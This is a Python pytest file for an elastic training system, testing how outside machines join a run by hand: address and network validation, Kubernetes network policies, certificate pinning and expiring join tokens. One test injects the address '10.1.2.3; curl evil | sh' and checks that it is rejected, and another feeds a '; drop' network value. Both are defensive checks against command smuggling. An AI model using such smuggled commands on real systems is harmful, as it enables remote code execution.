"""Machines that join by hand: from the DAG file to the token that a person passes on."""

from __future__ import annotations

import json
import os
import ssl
import sys
from collections.abc import Callable, Iterator
from contextlib import nullcontext
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from elastic_runtime.clock import utc_now
from elastic_runtime.documents import from_json, to_json
from elastic_runtime.errors import Conflict, InvalidDocument, InvalidSettings
from elastic_runtime.kubernetes.resources import CONFIG_MAPS, PODS
from elastic_runtime.net import certificates
from elastic_runtime.run import runobjects
from elastic_runtime.run.join import JoinSpec, JoinToken, OfferedToken, OfferedTokens, pin_of
from elastic_runtime.run.rundir import RunDir
from elastic_runtime.run.runobjects import ObjectNames, Part, Term
from elastic_runtime.run.spec import RunSpec, WorkersSpec
from elastic_runtime.run.status import Phase, Status, WorkerState, WorkerStatus
from elastic_training.clusters.document import SizeRequest
from elastic_training.clusters.fake import FakeCluster
from elastic_training.clusters.kubernetes.place import KubernetesCluster
from elastic_training.clusters.local import LocalCluster
from elastic_training.clusters.registry import substituted
from elastic_training.clusters.types import RunRef
from elastic_training.concurrency.bridge import run
from elastic_training.console.command.main import main
from elastic_training.identity.ownership import Owner
from elastic_training.operators.elastic_horovod import ElasticHorovodOperator
from elastic_training.scaling.request import ScaleState, judge
from elastic_training.settings import Join, Recovery, Workers
from tests.unit.provider.kubernetes_http import KubernetesServer, kubernetes_server
from tests.unit.provider.kubernetes_objects import RUNNING, pod, root_map
from tests.unit.provider.manifests_bench import SPEC, everything, objects_of, pods_of

NOON = datetime(2026, 1, 2, 12, tzinfo=UTC)
OWNER = Owner("nightly", "scheduled__1", "train", -1, 1, "nonce").text()
JOIN = JoinSpec("10.0.0.5", 7500)


def operator(**arguments: Any) -> ElasticHorovodOperator:
    return ElasticHorovodOperator(**{"task_id": "train", "command": ["python", "train.py"], **arguments})


@pytest.mark.parametrize(
    ("make", "field"),
    [
        (lambda: operator(workers=Workers(join=Join())), "workers.join.address"),
        (lambda: operator(workers=Workers(join=Join()), cluster="pool:team-a"), "workers.join.address"),
        (lambda: Join("0.0.0.0:7443"), "workers.join.address"),
        (lambda: Join("10.0.0.5", port=80), "workers.join.port"),
        (lambda: Join("10.0.0.5", port="many"), "workers.join.port"),
        (lambda: Workers(join=True), "workers.join"),
        (lambda: operator(workers={"join": {"adress": "10.0.0.5"}}), "workers.join.adress"),
        (lambda: operator(workers=Workers(join=Join("10.0.0.5")), cluster="slurm:/s"), "workers.join.address"),
        (lambda: operator(workers=Workers(join=Join("10.0.0.5")), cluster="ray:head:8265/s"), "workers.join.address"),
        (lambda: operator(workers=Workers(join=Join("10.0.0.5")), cluster="spark://h:7077/s"), "workers.join.address"),
        (lambda: operator(workers=Workers(join=Join("10.0.0.5")), recovery=Recovery(mode="fixed")), "workers.join"),
        (lambda: Join(networks=5), "workers.join.networks"),
        (lambda: Join(networks=["fe80::%1/64"]), "workers.join.networks"),
        (lambda: Join(networks=["10.0.0.5/16"]), "workers.join.networks"),
        (lambda: Join(networks=["0.0.0.0/0"]), "workers.join.networks"),
        (lambda: Join(networks=["10.0.0.0/8; drop"]), "workers.join.networks"),
        (lambda: Join(networks=[f"10.{each}.0.0/16" for each in range(21)]), "workers.join.networks"),
        (lambda: operator(workers=Workers(join=Join("10.0.0.5", networks=["10.0.0.0/8"]))), "workers.join.networks"),
        (
            lambda: operator(workers=Workers(join=Join(networks=["10.0.0.0/8"])), cluster="slurm:/s"),
            "workers.join.networks",
        ),
    ],
)
def test_what_cannot_work_is_refused_at_parse(make: Callable[[], Any], field: str) -> None:
    with pytest.raises(InvalidSettings) as refused:
        make()
    assert refused.value.field == field


def test_reaches_the_launcher_and_no_other_one() -> None:
    given = {"min": 1, "join": {"address": "10.0.0.5", "port": "7500"}}
    spec = operator(workers=given).spec("run")
    assert spec.join == JOIN
    assert from_json(RunSpec, to_json(spec)) == spec
    assert operator(workers={"min": 1}).spec("run").join is None
    assert '"join"' not in to_json(operator(workers={"min": 1}).spec("run"))


@pytest.mark.parametrize("cluster", ["slurm:/shared", "ray:head:8265/shared", "spark://head:7077/shared"])
def test_in_a_batch_system_the_address_is_the_launchers(cluster: str) -> None:
    task = operator(workers=Workers(join=Join(port=7500)), cluster=cluster)
    assert task.spec("run").join == JoinSpec(port=7500)


@pytest.mark.parametrize(("join", "problem"), [(Join(), None), (Join("10.0.0.5"), "the address by which the cluster")])
def test_a_connection_that_leads_to_a_batch_system(
    monkeypatch: pytest.MonkeyPatch, join: Join, problem: str | None
) -> None:
    extra = {"place": "slurm", "folder": "/shared/runs"}
    monkeypatch.setenv("AIRFLOW_CONN_HPC", json.dumps({"conn_type": "elastic_training", "extra": extra}))
    task = operator(workers=Workers(join=join), cluster="hpc")
    with pytest.raises(InvalidSettings, match=problem) if problem else nullcontext():
        task.creating_cluster()


def test_an_address_that_is_known_late_is_checked_then() -> None:
    task = operator(workers=Workers(join=Join("{{ params.address }}")), cluster="{{ params.where }}")
    task.workers = replace(task.workers, join=Join("10.0.0.5"))
    task.cluster = "training"
    with pytest.raises(InvalidSettings, match="the address by which the cluster reaches it"):
        task.creating_cluster()


@pytest.mark.parametrize(
    ("join", "problem"),
    [(Join(networks=["10.0.0.0/16", "fd00::/8"]), None), (Join(), "no machine may connect to pods")],
)
def test_pods_let_in_the_networks_that_are_given(join: Join, problem: str | None) -> None:
    task = operator(workers=Workers(join=join), cluster="training", image="trainer:1")
    with pytest.raises(InvalidSettings, match=problem) if problem else nullcontext():
        task.creating_cluster()
    if not problem:
        assert task.spec("run").join == JoinSpec(networks=("10.0.0.0/16", "fd00::/8"))


def offered_in(server: KubernetesServer, root: str) -> tuple[OfferedToken, ...]:
    annotations = server.run(server.place.api.get(CONFIG_MAPS, root)).annotations
    return from_json(OfferedTokens, annotations[runobjects.JOIN_TOKENS]).tokens


def test_networks_may_be_templates_of_texts_with_commas() -> None:
    values = {"{{ one }}": "10.0.0.0/16", "{{ both }}": "10.0.0.0/16, 10.1.0.0/16"}

    def render(value: Any) -> Any:
        return [values.get(each, each) for each in value] if isinstance(value, list) else values.get(value, value)

    for given in (Join(networks=["{{ one }}", "10.1.0.0/16"]), Join(networks="{{ both }}")):
        assert given.rendered(render).spec().networks == ("10.0.0.0/16", "10.1.0.0/16")


def test_the_port_of_a_launcher_in_a_pod_is_fixed() -> None:
    join = Join(networks=["10.0.0.0/16"], port=7500)
    with pytest.raises(InvalidSettings, match="a launcher in a pod listens on port 7077"):
        operator(workers=Workers(join=join), cluster="training", image="trainer:1").creating_cluster()


def test_the_output_of_one_that_joined_is_on_its_machine() -> None:
    assert (
        KubernetesCluster("cloud").worker_log("run", "joined-1")
        == "what elastic-join prints on the machine of joined-1"
    )


class TestPods:
    def test_without_networks_there_would_be_a_policy_for_everybody(self) -> None:
        with pytest.raises(InvalidSettings, match="no machine may connect to pods"):
            objects_of(spec=replace(SPEC, join=JoinSpec()))

    def test_a_dry_run_has_a_secret_with_all_that_is_mounted(self, spec: RunSpec) -> None:
        [secret] = (each for each in objects_of(spec=spec).all() if each["kind"] == "Secret")
        launcher, _ = pods_of(objects_of(spec=spec))
        [items] = (each["secret"]["items"] for each in launcher["spec"]["volumes"] if "secret" in each)
        assert {each["key"] for each in items} <= set(secret["data"])

    @pytest.fixture
    def spec(self) -> RunSpec:
        return replace(SPEC, join=JoinSpec(networks=("10.0.0.0/16",)))

    def test_the_launcher_alone_has_the_key_that_signs(self, spec: RunSpec) -> None:
        for role, there in zip(pods_of(objects_of(spec=spec)), (True, False), strict=True):
            (tls,) = (each["secret"]["items"] for each in role["spec"]["volumes"] if "secret" in each)
            assert ({"key": "authority.key", "path": "authority.key"} in tls) is there
        launcher, _ = pods_of(objects_of())
        assert "authority.key" not in str(launcher)

    def test_the_machines_reach_launcher_and_workers(self, spec: RunSpec) -> None:
        policy = everything(objects_of(spec=spec))["NetworkPolicy machines"]
        assert policy["metadata"]["name"] == f"{spec.name}-join"
        assert policy["spec"]["ingress"] == [{"from": [{"ipBlock": {"cidr": "10.0.0.0/16"}}]}]
        [parts] = policy["spec"]["podSelector"]["matchExpressions"]
        assert parts == {"key": "elastic-training/part", "operator": "In", "values": ["launcher", "worker"]}
        assert "NetworkPolicy machines" not in everything(objects_of())

    def test_a_token_is_for_the_launcher_in_leadership(self, spec: RunSpec, monkeypatch: pytest.MonkeyPatch) -> None:
        names, term = ObjectNames(spec.name), Term(4, "pod-uid", 7, NOON, "10.1.2.3", "ab" * 32)
        root = root_map(spec=spec, owner=OWNER).raw
        status = {"metadata": {"name": names.status}, "data": {}}
        with kubernetes_server() as (server, environment):
            for name, value in environment.items():
                monkeypatch.setenv(name, value)
            for manifest, part in ((root, Part.ROOT), (status, Part.STATUS)):
                labels = {"labels": runobjects.labels(spec.name, spec.uid, part)}
                server.run(server.place.create(CONFIG_MAPS, {**manifest, "metadata": manifest["metadata"] | labels}))
            cluster, ref = KubernetesCluster("cloud"), RunRef(spec.name, spec.uid)
            with pytest.raises(Conflict, match="listens now; try again"):
                run(cluster.join_command(ref))

            def annotate(text: str) -> None:
                change = {"metadata": {"annotations": {runobjects.TERM: text}}}
                server.run(server.place.change(CONFIG_MAPS, names.status, change))

            annotate(to_json(term))
            with pytest.raises(Conflict, match="listens now; try again"):  # Its pod is gone, and there is no other.
                run(cluster.join_command(ref))
            launcher = dict(pod(state=RUNNING, phase="Running").raw)
            labels = {"labels": runobjects.labels(spec.name, spec.uid, Part.LAUNCHER)}
            made = server.run(server.place.create(PODS, {**launcher, "metadata": launcher["metadata"] | labels}))
            term = replace(term, holder=made.uid)
            annotate(to_json(replace(term, address="10.1.2.3; curl evil | sh")))
            with pytest.raises(InvalidDocument):
                run(cluster.join_command(ref))
            annotate(to_json(replace(term, pin="")))
            with pytest.raises(Conflict, match="of a version that machines cannot join"):
                run(cluster.join_command(ref))
            annotate(to_json(term))
            *words, text = run(cluster.join_command(ref, timedelta(minutes=5))).split()
            assert words == ["elastic-join", spec.name, "--at", "10.1.2.3:7077", "--token"]
            token = JoinToken.parse(text)
            assert token.pin.hex() == term.pin
            [offered] = offered_in(server, names.root)
            assert (offered.digest, offered.launcher) == (token.digest, 4)
            annotate(to_json(replace(term, number=5)))
            run(cluster.join_command(ref))
            [offered] = offered_in(server, names.root)
            assert offered.launcher == 5, "those of the launcher before are of no use any more"


class TestTokens:
    @pytest.fixture
    def cluster(self, tmp_path: Path) -> Iterator[LocalCluster]:
        (root := tmp_path / "runs").mkdir(mode=0o700)
        (root / "script").write_text("train")
        python = tmp_path / "python"
        python.write_text(f'#!/bin/sh\nexec {sys.executable} {Path(__file__).with_name("stub_launcher.py")} "$@"\n')
        python.chmod(0o700)
        cluster = LocalCluster(root, str(python), poll=0.01)
        yield cluster
        (root / "finish").touch()
        for each in run(cluster.list()):
            run(cluster.delete(each.ref, OWNER))

    def claim(self, cluster: LocalCluster | FakeCluster, join: JoinSpec | None = JOIN) -> RunRef:
        spec = RunSpec("nightly-train", "uid", ("python", "train.py"), WorkersSpec(1, 2, 4), join=join)
        return run(cluster.claim(spec, OWNER)).ref

    def test_is_for_the_launcher_that_listens_and_for_its_time(self, cluster: LocalCluster, tmp_path: Path) -> None:
        ref, folder = self.claim(cluster), RunDir(tmp_path / "runs" / "nightly-train")
        with pytest.raises(Conflict, match="no launcher of the run nightly-train listens now"):
            run(cluster.join_command(ref))
        certificates.create(folder.tls)
        with pytest.raises(InvalidDocument, match="does not have one address"):
            run(cluster.join_command(ref))
        certificates.remove(folder.tls)
        certificates.create(folder.tls, ["::1"])
        *words, text = run(cluster.join_command(ref, timedelta(minutes=5))).split()
        assert words == ["elastic-join", "nightly-train", "--at", "[::1]:7500", "--token"]
        token = JoinToken.parse(text)
        certificate = folder.tls / "launcher.crt"
        assert token.pin == pin_of(ssl.PEM_cert_to_DER_cert(certificate.read_text()))
        assert folder.has_token(token.digest, utc_now())
        assert not folder.has_token(token.digest, utc_now() + timedelta(minutes=5))
        certificate.unlink()
        os.mkfifo(certificate)
        with pytest.raises(InvalidDocument, match="not a regular file"):
            run(cluster.join_command(ref))

    def test_the_command_prints_what_the_other_machine_runs(
        self, cluster: LocalCluster, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        self.claim(cluster)
        certificates.create(tmp_path / "runs" / "nightly-train" / "tls", ["10.0.0.5"])
        with substituted("local", cluster):
            assert main(["token", "nightly", "--minutes", "5"]) == 0
        printed = capsys.readouterr()
        *words, token = printed.out.split()
        assert words == ["elastic-join", "nightly-train", "--at", "10.0.0.5:7500", "--token"]
        assert JoinToken.parse(token).secret.hex() not in printed.err
        assert "on one machine, until " in printed.err

    def test_the_same_words_join_from_airflows_environment(self, monkeypatch: pytest.MonkeyPatch) -> None:
        executed: list[tuple[str, ...]] = []
        monkeypatch.setattr(os, "execv", lambda _program, words: executed.append(words))
        words = ("nightly-train", "--at", "10.0.0.5:7500", "--token", "join-x", "--address", "10.0.0.7")
        main(["join", *words])
        assert executed == [(sys.executable, "-m", "elastic_runtime.agent.join", *words)]

    def test_a_run_that_does_not_let_machines_join_has_none(
        self, cluster: LocalCluster, capsys: pytest.CaptureFixture[str]
    ) -> None:
        self.claim(cluster, None)
        with substituted("local", cluster):
            assert main(["token", "nightly-train"]) == 1
        assert "machines may not join the run nightly-train" in capsys.readouterr().err

    def test_a_place_that_cannot_has_none(self) -> None:
        cluster = FakeCluster()
        with pytest.raises(InvalidSettings, match="machines cannot join a run that is"):
            run(cluster.join_command(self.claim(cluster)))

    def test_a_worker_that_joined_is_sent_no_notice_that_it_would_not_read(
        self, cluster: LocalCluster, tmp_path: Path
    ) -> None:
        ref, folder = self.claim(cluster), RunDir(tmp_path / "runs" / "nightly-train")
        while (status := folder.read_status()) is None:
            pass
        folder.write_status(replace(status, workers=(worker("joined-1", 0),)))
        with pytest.raises(InvalidSettings, match="joined by hand, from another machine"):
            run(cluster.reclaim(ref, "joined-1", timedelta(seconds=30)))


def worker(name: str, *ranks: int) -> WorkerStatus:
    return WorkerStatus(name, "node", WorkerState.TRAINING, NOON, 1, ranks)


@pytest.mark.parametrize(
    ("workers", "reached"),
    [
        ((worker("worker-0", 0), worker("worker-1", 1), worker("joined-1", 2)), True),
        ((worker("worker-0", 0), worker("joined-1", 1)), True),  # It takes the place of one that is missing.
        ((worker("worker-0", 0), worker("worker-1", 1), worker("worker-2", 2), worker("joined-1", 3)), False),
        ((worker("worker-0", 0), worker("joined-1")), False),
        ((worker("worker-0", 0), worker("worker-1", 1)), True),
    ],
)
def test_a_size_is_reached_without_those_that_joined(workers: tuple[WorkerStatus, ...], reached: bool) -> None:
    size = sum(len(each.ranks) for each in workers)
    status = Status("run", "uid", Phase.RUNNING, "", NOON, world_size=size, target_size=2, workers=workers)
    asked = SizeRequest("r", workers=2)
    verdict = judge(status, asked, 1, 2)
    assert verdict.scaling is (ScaleState.REACHED if reached else ScaleState.WAITING)
